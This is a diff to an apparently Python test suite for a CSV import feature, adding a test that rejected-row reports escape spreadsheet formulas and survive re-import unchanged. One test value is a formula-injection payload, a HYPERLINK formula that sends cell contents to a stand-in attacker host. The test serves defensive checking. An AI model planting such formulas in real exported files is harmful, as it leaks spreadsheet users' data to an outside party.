@@ -1,6 +1,7 @@
 """Importing a file on screens, from the upload to the report; bad files; a worker killed midway."""
 
 import asyncio
+import csv
 import re
 from collections.abc import Callable
 from datetime import timedelta
@@ -110,6 +111,20 @@ async def test_a_file_that_waits_is_rung_for_at_once_and_by_the_schedule(office:
     assert await across.with_waiting_imports(town.database) == [town.organization_id]
     await work_off(office)
     assert await across.with_waiting_imports(town.database) == []
+
+
+async def test_the_file_of_rows_not_taken_runs_no_formula_and_is_read_again_as_it_was(office: Office) -> None:
+    """It is made to be opened in a spreadsheet program, and its words come from strangers."""
+    formula = '=HYPERLINK("http://evil.example?"&A1)'
+    quoted = formula.replace('"', '""')
+    path = await imported(office, HEAD + f'1,"{quoted}",@Lee,12,94110,-1+1\n')
+    report = await (await office.signed_in("organizer")).get(f"{path}/not-taken.csv")
+    [row] = csv.reader(report.text.splitlines()[1:])
+    assert row[1:6] == [f"'{formula}", "'@Lee", "12", "94110", "'-1+1"]
+    await imported(office, report.text.replace(",12,", ",415-555-0199,"))
+    assert await office.town.query("select first_name, last_name, fields from contact") == [
+        (formula, "@Lee", {"Precinct": "-1+1"})
+    ]
 
 
 async def test_the_rows_not_taken_come_as_a_file_that_can_be_imported_again(office: Office) -> None:
